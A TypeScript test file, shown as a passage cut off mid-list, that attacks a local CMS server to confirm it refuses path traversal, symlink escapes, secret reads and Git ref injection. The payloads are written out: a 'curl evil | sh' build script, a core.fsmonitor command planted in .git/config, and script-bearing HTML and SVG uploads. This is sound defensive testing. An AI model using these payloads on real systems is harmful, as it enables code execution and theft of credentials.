/**
 * The local CMS server (scripts/cms-server.ts) against requests a page on this machine, a script or a
 * tampered admin could send it: each row is a real HTTP request to the real server
 * (spawnDecapServer, on a free port, with the admin's own Host and Origin) editing a throwaway copy
 * of the project. Every attack must be refused with 403 and a Swedish message, leave every file of
 * the copy as it was (the Git repository's refs, index and config too) and leak nothing: no secret
 * from `.env` or `.git/config`, in plain text or base64. After each row the copy is put back as it
 * was, so one row's damage (on a server without the filter) cannot decide another's outcome.
 *
 * The same files show what the server must still do: save, upload, list, read and delete inside
 * content/ and public/media/, and in Git mode (the editorial workflow) commit only the files a save
 * wrote: an untracked `notes-private.txt` and `.env` never reach a commit, a draft or `main`.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { request } from 'node:http';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { localOrigins, spawnDecapServer, type DecapServer } from '../../scripts/decap-server.ts';
import { makeWorkspace, removeWorkspace } from '../support/workspace.ts';

const SECRET = 'rc-cms-secret-5e1f0a';
const SITE_PORT = 4398;
const ORIGIN = `http://localhost:${SITE_PORT}`;

// ---------------------------------------------------------------------------------------------
// Requests

function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const server = createServer().listen(0, '127.0.0.1', () => {
      const { port } = server.address() as { port: number };
      server.close(() => resolve(port));
    });
  });
}

interface Reply {
  status: number;
  text: string;
  json: unknown;
}

/** POST /api/v1 with the admin's own Host and Origin, the way the browser sends it. */
function api(port: number, body: unknown): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: '127.0.0.1',
        port,
        path: '/api/v1',
        method: 'POST',
        headers: { host: `localhost:${port}`, origin: ORIGIN, 'content-type': 'application/json' },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => {
          const text = Buffer.concat(chunks).toString('utf8');
          let json: unknown;
          try {
            json = JSON.parse(text);
          } catch {
            json = undefined;
          }
          resolve({ status: res.statusCode ?? 0, text, json });
        });
      },
    );
    req.on('error', reject);
    req.end(JSON.stringify(body));
  });
}

async function waitForServer(port: number): Promise<void> {
  const deadline = Date.now() + 30_000;
  while (Date.now() < deadline) {
    if ((await api(port, { action: 'info' }).catch(() => ({ status: 0 }))).status === 200) return;
    await new Promise((r) => setTimeout(r, 200));
  }
  throw new Error('CMS-servern startade inte.');
}

/** Whether a reply carries the secret: as text, or inside any string that is base64 (media files come back so). */
function leaks(reply: Reply): boolean {
  if (reply.text.includes(SECRET)) return true;
  const strings: string[] = [];
  const walk = (v: unknown) => {
    if (typeof v === 'string') strings.push(v);
    else if (v && typeof v === 'object') Object.values(v).forEach(walk);
  };
  walk(reply.json);
  return strings.some((s) => /^[A-Za-z0-9+/=\s]{8,}$/.test(s) && Buffer.from(s, 'base64').toString('latin1').includes(SECRET));
}

// ---------------------------------------------------------------------------------------------
// The throwaway copy: a snapshot of every file (and symlink) to compare and restore after each row

type Node = { kind: 'file'; hash: string; data: Buffer } | { kind: 'link'; target: string } | { kind: 'dir' };

/** Everything below `dir` except node_modules (a link to the project's) and Git's object store (append-only, harmless). */
function snapshot(dir: string): Map<string, Node> {
  const nodes = new Map<string, Node>();
  const walk = (rel: string) => {
    for (const name of readdirSync(join(dir, rel))) {
      const path = rel ? `${rel}/${name}` : name;
      if (path === 'node_modules' || path === '.git/objects' || path === '.git/logs') continue;
      const stat = lstatSync(join(dir, path));
      if (stat.isSymbolicLink()) nodes.set(path, { kind: 'link', target: readlinkSync(join(dir, path)) });
      else if (stat.isDirectory()) {
        nodes.set(path, { kind: 'dir' });
        walk(path);
      } else {
        const data = readFileSync(join(dir, path));
        nodes.set(path, { kind: 'file', hash: createHash('sha1').update(data).digest('hex'), data });
      }
    }
  };
  walk('');
  return nodes;
}

/** What changed since `before`: paths created, changed or removed. */
function changes(dir: string, before: Map<string, Node>): string[] {
  const after = snapshot(dir);
  const changed: string[] = [];
  for (const [path, node] of after) {
    const old = before.get(path);
    if (!old) changed.push(`+ ${path}`);
    else if (old.kind !== node.kind) changed.push(`~ ${path}`);
    else if (old.kind === 'file' && node.kind === 'file' && old.hash !== node.hash) changed.push(`~ ${path}`);
    else if (old.kind === 'link' && node.kind === 'link' && old.target !== node.target) changed.push(`~ ${path}`);
  }
  for (const path of before.keys()) if (!after.has(path)) changed.push(`- ${path}`);
  return changed;
}

/** Puts the copy back as `before` had it. */
function restore(dir: string, before: Map<string, Node>): void {
  const after = snapshot(dir);
  for (const path of [...after.keys()].reverse()) if (!before.has(path)) rmSync(join(dir, path), { recursive: true, force: true });
  for (const [path, node] of before) {
    const now = after.get(path);
    const abs = join(dir, path);
    if (node.kind === 'dir') {
      if (now?.kind !== 'dir') {
        rmSync(abs, { recursive: true, force: true });
        mkdirSync(abs, { recursive: true });
      }
    } else if (node.kind === 'link') {
      if (now?.kind !== 'link' || now.target !== node.target) {
        rmSync(abs, { recursive: true, force: true });
        mkdirSync(dirname(abs), { recursive: true });
        symlinkSync(node.target, abs);
      }
    } else if (now?.kind !== 'file' || now.hash !== node.hash) {
      rmSync(abs, { recursive: true, force: true });
      mkdirSync(dirname(abs), { recursive: true });
      writeFileSync(abs, node.data);
    }
  }
}

const git = (dir: string, ...args: string[]) => execFileSync('git', args, { cwd: dir, encoding: 'utf8' }).trim();

/**
 * A copy of the project to attack: a Git repository on `main` (and a branch `annan`) with the
 * project's .gitignore, a secret in an untracked `.env` and in `.git/config`, a scripts/ folder to
 * overwrite, and symlinks committed where the admin's own paths go: an entry and two uploads that
 * point at package.json, astro.config.mjs and .env, and content/events/en, a folder that is really
 * scripts/.
 */
function attackWorkspace(prefix: string): string {
  const dir = makeWorkspace(prefix);
  cpSync(join(process.cwd(), '.gitignore'), join(dir, '.gitignore'));
  mkdirSync(join(dir, 'scripts'));
  writeFileSync(join(dir, 'scripts/build.ts'), 'console.log("build");\n');
  symlinkSync('../../../package.json', join(dir, 'content/pages/sv/lankad.mdx'));
  symlinkSync('../../astro.config.mjs', join(dir, 'public/media/lankad.png'));
  symlinkSync('../../.env', join(dir, 'public/media/hemlig.txt'));
  rmSync(join(dir, 'content/events/en'), { recursive: true, force: true });
  symlinkSync('../../scripts', join(dir, 'content/events/en'));
  git(dir, 'init', '--quiet', '--initial-branch=main');
  git(dir, 'config', 'user.name', 'Testredaktör');
  git(dir, 'config', 'user.email', 'redaktor@exempel.se');
  git(dir, 'config', 'rc.token', SECRET);
  git(dir, 'config', 'commit.gpgsign', 'false');
  git(dir, 'add', '-A');
  git(dir, 'commit', '--quiet', '-m', 'Start');
  git(dir, 'branch', 'annan');
  // After the commit, untracked: the token a developer keeps beside the code.
  writeFileSync(join(dir, '.env'), `GITHUB_TOKEN=${SECRET}\n`);
  return dir;
}

// ---------------------------------------------------------------------------------------------
// Payloads

const b64 = (text: string | Uint8Array) => Buffer.from(text).toString('base64');
const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
const HTML = '<!doctype html><script>fetch("http://localhost:8081/api/v1")</script>';
const FSMONITOR = (marker: string) => `[core]\n\tfsmonitor = "touch ${marker} #"\n`;
const page = (title: string) =>
  `---\ntitle: ${title}\ndescription: En sida sparad i testet av CMS-servern.\nupdated: 2026-11-23\n---\n\nText.\n`;

const persistEntry = (
  dataFiles: { path: string; raw?: string; slug?: string; newPath?: string }[],
  extra: { assets?: { path: string; content: string; encoding: string }[]; options?: Record<string, unknown>; branch?: string } = {},
) => ({
  action: 'persistEntry',
  params: {
    branch: extra.branch ?? 'main',
    dataFiles: dataFiles.map((f) => ({ slug: 'x', raw: page('X'), ...f })),
    assets: extra.assets ?? [],
    options: { commitMessage: 'Spara', useWorkflow: false, status: 'draft', collectionName: 'pages', ...extra.options },
  },
});
const legacyEntry = (path: string, raw: string) => ({
  action: 'persistEntry',
  params: {
    branch: 'main',
    entry: { slug: 'x', path, raw },
    assets: [],
    options: { commitMessage: 'Spara', useWorkflow: false, status: 'draft' },
  },
});
const persistMedia = (path: string, content: string | Uint8Array = PNG) => ({
  action: 'persistMedia',
  params: { branch: 'main', asset: { path, content: b64(content), encoding: 'base64' }, options: { commitMessage: 'Ladda upp' } },
});
const asset = (path: string, content: string | Uint8Array = PNG) => ({ path, content: b64(content), encoding: 'base64' });
const deleteFile = (path: string) => ({ action: 'deleteFile', params: { branch: 'main', path, options: { commitMessage: 'Ta bort' } } });
const deleteFiles = (paths: string[]) => ({
  action: 'deleteFiles',
  params: { branch: 'main', paths, options: { commitMessage: 'Ta bort' } },
});
const getEntry = (path: string) => ({ action: 'getEntry', params: { branch: 'main', path } });
const getMediaFile = (path: string) => ({ action: 'getMediaFile', params: { branch: 'main', path } });
const getMedia = (mediaFolder: string) => ({ action: 'getMedia', params: { branch: 'main', mediaFolder } });
const entriesByFiles = (paths: string[]) => ({
  action: 'entriesByFiles',
  params: { branch: 'main', files: paths.map((path) => ({ path })) },
});
const entriesByFolder = (folder: string, extension: string, depth = 2) => ({
  action: 'entriesByFolder',
  params: { branch: 'main', folder, extension, depth },
});

interface Attack {
  name: string;
  body: unknown;
}

/** `{dir}` in a path is the copy's own absolute folder. */
const at = (dir: string, body: unknown): unknown => JSON.parse(JSON.stringify(body).replaceAll('{dir}', dir));

/** Writes (fs mode): every way of naming a file outside content/ and public/media/, or one the folder does not read. */
const writeAttacks = (marker: string): Attack[] => [
  // Outside the content and media folders, named plainly
  {
    name: 'persistEntry to scripts/build.ts (code the build runs)',
    body: persistEntry([{ path: 'scripts/build.ts', raw: 'process.exit(1)' }]),
  },
  {
    name: 'persistEntry to package.json (npm scripts)',
    body: persistEntry([{ path: 'package.json', raw: '{"scripts":{"build":"curl evil | sh"}}' }]),
  },
  {
    name: 'persistEntry to .git/config (core.fsmonitor runs at the next git command)',
    body: persistEntry([{ path: '.git/config', raw: FSMONITOR(marker) }]),
  },
  { name: 'persistEntry to astro.config.mjs', body: persistEntry([{ path: 'astro.config.mjs', raw: 'import "child_process";' }]) },
  {
    name: 'persistEntry to src/pages/evil.astro (a page with code)',
    body: persistEntry([{ path: 'src/pages/evil.astro', raw: '---\nprocess.exit()\n---' }]),
  },
  { name: 'persistEntry to .env', body: persistEntry([{ path: '.env', raw: 'X=1' }]) },
  { name: 'persistEntry to .gitignore', body: persistEntry([{ path: '.gitignore', raw: '# nothing ignored\n' }]) },
  { name: 'persistEntry to public/_headers (the site’s CSP)', body: persistEntry([{ path: 'public/_headers', raw: '/*\n  X: y' }]) },
  { name: 'persistEntry to public/sw.js (the service worker)', body: persistEntry([{ path: 'public/sw.js', raw: 'self.x=1' }]) },
  { name: 'the legacy `entry` field to package.json', body: legacyEntry('package.json', '{}') },
  { name: 'the legacy `entry` field to .git/config', body: legacyEntry('.git/config', FSMONITOR(marker)) },
  // Inside content/, but a file no folder reads
  { name: 'a .js file in a content folder', body: persistEntry([{ path: 'content/pages/sv/x.js' }]) },
  { name: 'a .yaml file in an MDX folder', body: persistEntry([{ path: 'content/pages/sv/x.yaml' }]) },
  { name: 'an .mdx file in a YAML folder', body: persistEntry([{ path: 'content/helplines/x.mdx' }]) },
  { name: 'a translated type without its language folder', body: persistEntry([{ path: 'content/pages/x.mdx' }]) },
  { name: 'an unknown language folder', body: persistEntry([{ path: 'content/pages/de/x.mdx' }]) },
  { name: 'a subfolder the type does not have', body: persistEntry([{ path: 'content/helplines/extra/x.yaml' }]) },
  { name: 'a file the settings do not have', body: persistEntry([{ path: 'content/settings/other.yaml', raw: 'a: 1' }]) },
  { name: 'a file in content/ itself', body: persistEntry([{ path: 'content/evil.mdx' }]) },
  { name: 'an unknown folder in content/', body: persistEntry([{ path: 'content/plugins/x.mdx' }]) },
  { name: 'a dot file in a content folder', body: persistEntry([{ path: 'content/pages/sv/.x.mdx' }]) },
  { name: 'Content/ in capitals (another folder on Linux)', body: persistEntry([{ path: 'Content/pages/sv/x.mdx' }]) },
  { name: 'a double extension', body: persistEntry([{ path: 'content/pages/sv/x.mdx.js' }]) },
  { name: 'an entry text with a NUL byte', body: persistEntry([{ path: 'content/pages/sv/nul.mdx', raw: 'a\u0000b' }]) },
  // Path tricks
  { name: '../ from a content folder to scripts/', body: persistEntry([{ path: 'content/pages/sv/../../../scripts/build.ts' }]) },
  { name: '../ that comes back into the folder', body: persistEntry([{ path: 'content/pages/sv/../sv/x.mdx' }]) },
  { name: './ segments', body: persistEntry([{ path: './content/pages/sv/x.mdx' }]) },
  { name: 'an empty segment (//)', body: persistEntry([{ path: 'content//pages/sv/x.mdx' }]) },
  { name: 'an absolute path into the copy', body: persistEntry([{ path: '{dir}/package.json', raw: '{}' }]) },
  { name: 'an absolute path to a content file', body: persistEntry([{ path: '{dir}/content/pages/sv/x.mdx' }]) },
  { name: 'an absolute path outside the copy', body: persistEntry([{ path: '/tmp/rc-cms-evil.mdx' }]) },
  { name: 'percent-encoded ../', body: persistEntry([{ path: 'content/pages/sv/%2e%2e/%2e%2e/x.mdx' }]) },
  { name: 'a percent-encoded slash', body: persistEntry([{ path: 'scripts%2fbuild.ts' }]) },
  { name: 'backslashes instead of slashes', body: persistEntry([{ path: 'content\\pages\\sv\\x.mdx' }]) },
  { name: 'backslash ../', body: persistEntry([{ path: 'content/pages/sv/..\\..\\..\\package.json' }]) },
  { name: 'a fullwidth slash', body: persistEntry([{ path: 'scripts\uff0fbuild.ts' }]) },
  { name: 'a NUL byte in the path', body: persistEntry([{ path: 'content/pages/sv/x.mdx\u0000.js' }]) },
  { name: 'a newline in the path', body: persistEntry([{ path: 'content/pages/sv/x\n.mdx' }]) },
  { name: 'a Windows drive path', body: persistEntry([{ path: 'C:/content/pages/sv/x.mdx' }]) },
  // Symlinks where the admin's paths go
  { name: 'an entry that is a symlink to package.json', body: persistEntry([{ path: 'content/pages/sv/lankad.mdx', raw: '{}' }]) },
  { name: 'a language folder that is a symlink to scripts/', body: persistEntry([{ path: 'content/events/en/x.mdx' }]) },
  { name: 'an upload that is a symlink to astro.config.mjs', body: persistMedia('public/media/lankad.png') },
  // Renames
  { name: 'a rename (newPath) into scripts/', body: persistEntry([{ path: 'content/pages/sv/om.mdx', newPath: 'scripts/om.mdx' }]) },
  { name: 'a rename (newPath) to package.json', body: persistEntry([{ path: 'content/pages/sv/om.mdx', newPath: 'package.json' }]) },
  {
    name: 'a rename into another type’s folder (moves the whole folder)',
    body: persistEntry([{ path: 'content/pages/sv/om.mdx', newPath: 'content/news/sv/om.mdx' }]),
  },
  // Uploads
  { name: 'an HTML page in public/media/', body: persistMedia('public/media/x.html', HTML) },
  { name: 'an .htm page in public/media/', body: persistMedia('public/media/x.htm', HTML) },
  { name: 'a script in public/media/', body: persistMedia('public/media/x.js', 'alert(1)') },
  { name: 'an ES module in public/media/', body: persistMedia('public/media/x.mjs', 'alert(1)') },
  { name: 'an XHTML file in public/media/', body: persistMedia('public/media/x.xhtml', HTML) },
  { name: 'an upload named .HTML in capitals', body: persistMedia('public/media/x.HTML', HTML) },
  { name: 'an upload without an extension', body: persistMedia('public/media/x', HTML) },
  { name: 'a dot file in public/media/ (.htaccess)', body: persistMedia('public/media/.htaccess', 'AddType text/html .png') },
  { name: 'an upload into a subfolder of public/media/', body: persistMedia('public/media/sub/x.png') },
  { name: 'an upload next to public/media/ (public/x.png)', body: persistMedia('public/x.png') },
  { name: 'an upload to scripts/', body: persistMedia('scripts/x.png') },
  { name: 'an upload ../ out of public/media/', body: persistMedia('public/media/../../scripts/build.ts', 'x') },
  { name: 'an upload to .git/config', body: persistMedia('.git/config', FSMONITOR(marker)) },
  { name: 'an upload public/Media/ in capitals', body: persistMedia('public/Media/x.png') },
  { name: 'a .png that is HTML', body: persistMedia('public/media/x.png', HTML) },
  {
    name: 'an SVG with a script',
    body: persistMedia('public/media/x.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  },
  { name: 'a .txt upload that is not text (NUL bytes)', body: persistMedia('public/media/x.txt', 'a\u0000b') },
  {
    name: 'an asset of an entry into scripts/',
    body: persistEntry([{ path: 'content/pages/sv/x.mdx' }], { assets: [asset('scripts/x.png')] }),
  },
  {
    name: 'an asset of an entry that is HTML',
    body: persistEntry([{ path: 'content/pages/sv/x.mdx' }], { assets: [asset('public/media/x.html', HTML)] }),
  },
  {
    name: 'an asset of an entry with another encoding',
    body: persistEntry([{ path: 'content/pages/sv/x.mdx' }], { assets: [{ ...asset('public/media/x.png'), encoding: 'utf8' }] }),
  },
  { name: 'a second data file outside content/', body: persistEntry([{ path: 'content/pages/sv/x.mdx' }, { path: 'scripts/y.ts' }]) },
  // Deletes
  { name: 'deleteFile package.json', body: deleteFile('package.json') },
  { name: 'deleteFile .git/config', body: deleteFile('.git/config') },
  { name: 'deleteFile .gitignore', body: deleteFile('.gitignore') },
  { name: 'deleteFile scripts/build.ts', body: deleteFile('scripts/build.ts') },
  { name: 'deleteFile src/schemas/index.ts', body: deleteFile('src/schemas/index.ts') },
  { name: 'deleteFile ../ out of content/', body: deleteFile('content/pages/../../astro.config.mjs') },
  { name: 'deleteFile by absolute path', body: deleteFile('{dir}/package.json') },
  { name: 'deleteFile the settings every page needs', body: deleteFile('content/settings/site.yaml') },
  { name: 'deleteFile through a symlinked folder', body: deleteFile('content/events/en/build.ts') },
  { name: 'deleteFiles with one path outside', body: deleteFiles(['content/pages/sv/om.mdx', 'package.json']) },
  { name: 'deleteFiles .git/HEAD', body: deleteFiles(['.git/HEAD']) },
];

/** Reads (fs mode): secrets and code outside content/ and public/media/. */
const readAttacks: Attack[] = [
  { name: 'getEntry .git/config', body: getEntry('.git/config') },
  { name: 'getEntry .env', body: getEntry('.env') },
  { name: 'getEntry ../../etc/passwd', body: getEntry('../../etc/passwd') },
  { name: 'getEntry /etc/passwd', body: getEntry('/etc/passwd') },
  { name: 'getEntry package.json', body: getEntry('package.json') },
  { name: 'getEntry content/../.env', body: getEntry('content/../.env') },
  { name: 'getEntry by absolute path into the copy', body: getEntry('{dir}/.env') },
  { name: 'getEntry an entry that is a symlink to package.json', body: getEntry('content/pages/sv/lankad.mdx') },
  { name: 'getEntry through a symlinked language folder', body: getEntry('content/events/en/build.ts') },
  { name: 'getEntry with a backslash', body: getEntry('content\\..\\.env') },
  { name: 'getMediaFile .env', body: getMediaFile('.env') },
  { name: 'getMediaFile .git/config', body: getMediaFile('.git/config') },
  { name: 'getMediaFile an upload that is a symlink to .env', body: getMediaFile('public/media/hemlig.txt') },
  { name: 'getMediaFile public/media/../../.env', body: getMediaFile('public/media/../../.env') },
  { name: 'getMedia of the repository root', body: getMedia('.') },
  { name: 'getMedia of .git', body: getMedia('.git') },
  { name: 'getMedia of public/media/..', body: getMedia('public/media/..') },
  { name: 'entriesByFiles .env', body: entriesByFiles(['content/pages/sv/om.mdx', '.env']) },
  { name: 'entriesByFiles .git/config', body: entriesByFiles(['.git/config']) },
  { name: 'entriesByFolder .git', body: entriesByFolder('.git', 'config') },
  { name: 'entriesByFolder the repository root', body: entriesByFolder('.', 'env', 1) },
  { name: 'entriesByFolder content/..', body: entriesByFolder('content/..', 'json', 1) },
  { name: 'entriesByFolder the symlinked language folder', body: entriesByFolder('content/events/en', 'ts', 1) },
];

// ---------------------------------------------------------------------------------------------

/** Refused, with the Swedish message, nothing leaked, nothing changed (each checked, so a failing row says all it did). */
function expectRefused(reply: Reply, dir: string, before: Map<string, Node>) {
  expect.soft(reply.status, reply.text.slice(0, 300)).toBe(403);
  expect.soft((reply.json as { error?: string } | undefined)?.error ?? '').toMatch(/^Förbjudet: /);
  expect.soft(leaks(reply), 'svaret innehåller hemligheten').toBe(false);
  expect.soft(changes(dir, before), 'filer ändrade').toEqual([]);
}

describe('the CMS server in file-system mode (npm start)', () => {
  let dir = '';
  let port = 0;
  let server: DecapServer;
  let before = new Map<string, Node>();
  const marker = join(tmpdir(), `rc-cms-fsmonitor-${process.pid}`);

  beforeAll(async () => {
    dir = attackWorkspace('rc-cms-fs-');
    port = await freePort();
    server = spawnDecapServer(dir, port, { origins: localOrigins(SITE_PORT), logLevel: 'error', mode: 'fs' });
    await waitForServer(port);
  });
  afterAll(() => {
    server?.stop();
    if (dir) removeWorkspace(dir);
    rmSync(marker, { force: true });
    rmSync('/tmp/rc-cms-evil.mdx', { force: true });
  });
  beforeEach(() => {
    before = snapshot(dir);
  });
  afterEach(() => restore(dir, before));

  it.each(writeAttacks(marker))('write: $name → 403, nothing written', async ({ body }) => {
    expectRefused(await api(port, at(dir, body)), dir, before);
    expect(existsSync('/tmp/rc-cms-evil.mdx')).toBe(false);
  });

  it.each(readAttacks)('read: $name → 403, nothing read', async ({ body }) => {
    expectRefused(await api(port, at(dir, body)), dir, before);
  });

  it.each([
    { name: 'getMedia of public/media, which holds a symlink to .env', body: getMedia('public/media'), link: 'public/media/hemlig.txt' },
    {
      name: 'getMedia of public/media, which holds a symlink to astro.config.mjs',
      body: getMedia('public/media'),
      link: 'public/media/lankad.png',
    },
    {
      name: 'entriesByFolder of content/pages, which holds a symlink to package.json',
      body: entriesByFolder('content/pages', 'mdx', 2),
      link: 'content/pages/sv/lankad.mdx',
    },
  ])('listing: $name → listed without the link', async ({ body, link }) => {
    const reply = await api(port, body);
    expect(reply.status, reply.text).toBe(200);
    expect(leaks(reply)).toBe(false);
    const items = reply.json as { path?: string; file?: { path: string } }[];
    expect(items.length).toBeGreaterThan(0);
    expect(items.map((i) => i.path ?? i.file?.path)).not.toContain(link);
    expect(reply.text).not.toContain('recovery-college-platform');
    expect(reply.text).not.toContain(b64(readFileSync(join(dir, 'astro.config.mjs'))).slice(0, 40));
    expect(changes(dir, before)).toEqual([]);
  });

  it('an unknown action is refused', async () => {
    expectRefused(await api(port, { action: 'runCommand', params: { branch: 'main', path: 'package.json' } }), dir, before);
  });

  // What the admin does keeps working.
  it('saves an entry in both languages, and renames it within its folder', async () => {
    const sv = 'content/pages/sv/ny-sida.mdx';
    const en = 'content/pages/en/ny-sida.mdx';
    expect(
      (
        await api(
          port,
          persistEntry([
            { path: sv, raw: page('Ny sida') },
            { path: en, raw: page('New page') },
          ]),
        )
      ).status,
    ).toBe(200);
    expect(readFileSync(join(dir, sv), 'utf8')).toContain('Ny sida');
    expect(readFileSync(join(dir, en), 'utf8')).toContain('New page');
    expect((await api(port, persistEntry([{ path: sv, newPath: 'content/pages/sv/bytt-namn.mdx', raw: page('Bytt') }]))).status).toBe(200);
    await expect.poll(() => existsSync(join(dir, 'content/pages/sv/bytt-namn.mdx'))).toBe(true);
  });
  it('saves a YAML entry, the settings and the interface strings', async () => {
    const helpline = readFileSync(join(dir, 'content/helplines/bris.yaml'), 'utf8');
    expect((await api(port, persistEntry([{ path: 'content/helplines/ny-linje.yaml', raw: helpline }]))).status).toBe(200);
    const site = readFileSync(join(dir, 'content/settings/site.yaml'), 'utf8');
    expect((await api(port, persistEntry([{ path: 'content/settings/site.yaml', raw: site }]))).status).toBe(200);
    const ui = readFileSync(join(dir, 'content/ui/sv.yaml'), 'utf8');
    expect((await api(port, persistEntry([{ path: 'content/ui/sv.yaml', raw: ui }]))).status).toBe(200);
  });
  it('uploads an image and a document, lists, reads and deletes them', async () => {
    expect((await api(port, persistMedia('public/media/ny-bild.png'))).status).toBe(200);
    expect((await api(port, persistMedia('public/media/Rapport.v2.PDF', '%PDF-1.4\n'))).status).toBe(200);
    expect(
      (await api(port, persistEntry([{ path: 'content/news/sv/med-bild.mdx' }], { assets: [asset('public/media/med-bild.png')] }))).status,
    ).toBe(200);
    expect(readFileSync(join(dir, 'public/media/ny-bild.png'))).toEqual(Buffer.from(PNG));
    const media = await api(port, getMedia('public/media'));
    expect(media.status).toBe(200);
    expect((media.json as { path: string }[]).map((m) => m.path)).toContain('public/media/ny-bild.png');
    expect((await api(port, getMediaFile('public/media/ny-bild.png'))).status).toBe(200);
    expect((await api(port, deleteFile('public/media/ny-bild.png'))).status).toBe(200);
    expect((await api(port, deleteFiles(['public/media/med-bild.png', 'content/news/sv/med-bild.mdx']))).status).toBe(200);
    expect(existsSync(join(dir, 'public/media/ny-bild.png'))).toBe(false);
    expect(existsSync(join(dir, 'content/news/sv/med-bild.mdx'))).toBe(false);
  });
  it('lists and reads entries', async () => {
    const listed = await api(port, entriesByFolder('content/pages', 'mdx', 2));
    expect(listed.status).toBe(200);
    expect((listed.json as { file: { path: string } }[]).map((e) => e.file.path)).toContain('content/pages/sv/om.mdx');
    const read = await api(port, getEntry('content/pages/sv/om.mdx'));
    expect(read.status).toBe(200);
    expect((read.json as { data: string }).data).toContain('title:');
    expect((await api(port, entriesByFiles(['content/settings/site.yaml', 'content/pages/en/om.mdx']))).status).toBe(200);
    // An English file nobody wrote yet: read as missing, not refused.
    expect((await api(port, getEntry('content/pages/en/finns-inte.mdx'))).status).toBe(200);
  });
  it('still answers requests without an Origin (curl, scripts on this machine)', async () => {
    const status = await new Promise<number>((resolve, reject) => {
      const req = request(
        {
          host: '127.0.0.1',
          port,
          path: '/api/v1',
          method: 'POST',
          headers: { host: `127.0.0.1:${port}`, 'content-type': 'application/json' },
        },
        (res) => (res.resume(), resolve(res.statusCode ?? 0)),
      );
      req.on('error', reject);
      req.end(JSON.stringify(getEntry('content/pages/sv/om.mdx')));
    });
    expect(status).toBe(200);
  });
});

// ---------------------------------------------------------------------------------------------
// Git mode (npm start -- --workflow)

const DRAFT = 'befintlig';
const workflowEntry = (
  slug: string,
  dataFiles: { path: string; raw?: string }[],
  extra: { collectionName?: string; assets?: ReturnType<typeof asset>[]; status?: string; branch?: string; cmsLabelPrefix?: string } = {},
) => ({
  action: 'persistEntry',
  params: {
    branch: extra.branch ?? 'main',
    ...(extra.cmsLabelPrefix ? { cmsLabelPrefix: extra.cmsLabelPrefix } : {}),
    dataFiles: dataFiles.map((f) => ({ slug, raw: page(slug), ...f })),
    assets: extra.assets ?? [],
    options: {
      collectionName: extra.collectionName ?? 'pages',
      commitMessage: `Utkast ${slug}`,
      useWorkflow: true,
      status: extra.status ?? 'draft',
    },
  },
});
const keyed = (action: string, collection: string, slug: string, extra: Record<string, unknown> = {}) => ({
  action,
  params: { branch: 'main', collection, slug, ...extra },
});

const gitAttacks = (marker: string): Attack[] => [
  // Workflow actions: collection and slug name a branch cms/<collection>/<slug>
  {
    name: 'a draft whose slug climbs out of cms/ (../../heads/main)',
    body: workflowEntry('../../heads/main', [{ path: 'content/pages/sv/x.mdx' }]),
  },
  {
    name: 'a draft whose collection climbs out (../heads)',
    body: workflowEntry('x', [{ path: 'content/pages/sv/x.mdx' }], { collectionName: '../heads' }),
  },
  {
    name: 'a draft of an unknown collection',
    body: workflowEntry('x', [{ path: 'content/pages/sv/x.mdx' }], { collectionName: 'plugins' }),
  },
  { name: 'a draft with a slash in its slug', body: workflowEntry('a/b', [{ path: 'content/pages/sv/x.mdx' }]) },
  { name: 'a draft slug that starts with a dash (an option to git)', body: workflowEntry('-x', [{ path: 'content/pages/sv/x.mdx' }]) },
  { name: 'a draft whose file is scripts/', body: workflowEntry('x', [{ path: 'scripts/build.ts', raw: 'process.exit()' }]) },
  { name: 'a draft whose file is package.json', body: workflowEntry('x', [{ path: 'package.json', raw: '{}' }]) },
  { name: 'a draft of pages whose file is in another type’s folder', body: workflowEntry('x', [{ path: 'content/news/sv/x.mdx' }]) },
  {
    name: 'a draft with an asset that is HTML',
    body: workflowEntry('x', [{ path: 'content/pages/sv/x.mdx' }], { assets: [asset('public/media/x.html', HTML)] }),
  },
  { name: 'a draft with an unknown status', body: workflowEntry('x', [{ path: 'content/pages/sv/x.mdx' }], { status: 'published' }) },
  {
    name: 'a draft with a strange label prefix',
    body: workflowEntry('x', [{ path: 'content/pages/sv/x.mdx' }], { cmsLabelPrefix: 'x\n[core]' }),
  },
  {
    name: 'a status change of an unknown collection (writes .git/config)',
    body: keyed('updateUnpublishedEntryStatus', 'plugins', 'x', { newStatus: 'pending_review' }),
  },
  { name: 'a status change to an unknown status', body: keyed('updateUnpublishedEntryStatus', 'pages', DRAFT, { newStatus: 'hacked' }) },
  {
    name: 'a status change with a slug with ../',
    body: keyed('updateUnpublishedEntryStatus', 'pages', '../x', { newStatus: 'pending_review' }),
  },
  { name: 'publishing a revision expression (befintlig~1)', body: keyed('publishUnpublishedEntry', 'pages', `${DRAFT}~1`) },
  { name: 'publishing a slug with ../', body: keyed('publishUnpublishedEntry', 'pages', `../pages/${DRAFT}`) },
  { name: 'publishing an unknown collection', body: keyed('publishUnpublishedEntry', '..', 'main') },
  { name: 'deleting a draft by a slug with ../', body: keyed('deleteUnpublishedEntry', 'pages', `../../annan`) },
  { name: 'unpublishedEntry by an id with ../', body: { action: 'unpublishedEntry', params: { branch: 'main', id: '../heads/main' } } },
  {
    name: 'unpublishedEntryDataFile of .env (read on the draft branch)',
    body: keyed('unpublishedEntryDataFile', 'pages', DRAFT, { id: `pages/${DRAFT}`, path: '.env' }),
  },
  {
    name: 'unpublishedEntryMediaFile of .git/config',
    body: keyed('unpublishedEntryMediaFile', 'pages', DRAFT, { id: `pages/${DRAFT}`, path: '.git/config' }),
  },
  {
    name: 'unpublishedEntryMediaFile through an upload symlinked to .env',
    body: keyed('unpublishedEntryMediaFile', 'pages', DRAFT, { id: `pages/${DRAFT}`, path: 'public/media/hemlig.txt' }),
  },
  {
    name: 'unpublishedEntryDataFile with a slug with ../',
